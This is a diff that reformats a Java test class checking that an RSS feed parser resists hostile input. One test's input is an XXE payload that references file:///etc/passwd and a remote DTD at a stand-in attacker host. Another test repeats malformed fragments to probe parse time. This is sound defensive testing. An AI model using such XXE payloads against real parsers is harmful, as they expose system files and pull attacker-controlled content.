@@ -46,8 +46,9 @@ class HostileFeedsTest {
 
     @Test
     void expandsNoBombAndFetchesNothing() {
-        var feed = read("<!DOCTYPE rss [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\"><!ENTITY c SYSTEM \"file:///etc/passwd\">"
-                + "<!ENTITY % d SYSTEM \"http://evil.example/x.dtd\">%d;]><rss><channel><title>&a;|&b;|&c;</title></channel></rss>");
+        var feed = read(
+                "<!DOCTYPE rss [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\"><!ENTITY c SYSTEM \"file:///etc/passwd\">"
+                        + "<!ENTITY % d SYSTEM \"http://evil.example/x.dtd\">%d;]><rss><channel><title>&a;|&b;|&c;</title></channel></rss>");
         assertThat(feed.header().title().value()).isEqualTo("ha||");
         assertThat(feed.notices().countByCode()).containsEntry("feed-entity-refused", 1L);
         assertThat(feed.notices().list().get(0).arguments()).containsEntry("count", "3");
@@ -62,10 +63,28 @@ class HostileFeedsTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {
-            "<item>", "<a>", "<a b=\"", "<a b=c ", "<![CDATA[", "<!--", "<!", "<", "&", "&#1;", "</item", "<?", "<!DOCTYPE [",
-            "<x xmlns:a='b'>", "<description><![CDATA[", "]]>", "<item><guid>1</guid></item>", "<link href='", "\u0001"
-    })
+    @ValueSource(
+            strings = {
+                "<item>",
+                "<a>",
+                "<a b=\"",
+                "<a b=c ",
+                "<![CDATA[",
+                "<!--",
+                "<!",
+                "<",
+                "&",
+                "&#1;",
+                "</item",
+                "<?",
+                "<!DOCTYPE [",
+                "<x xmlns:a='b'>",
+                "<description><![CDATA[",
+                "]]>",
+                "<item><guid>1</guid></item>",
+                "<link href='",
+                "\u0001"
+            })
     void takesTimeInProportion(String piece) {
         String rss = "<rss><channel>" + piece.repeat(200_000);
         assertTimeout(Duration.ofSeconds(60), () -> assertThat(read(rss)).isNotNull());
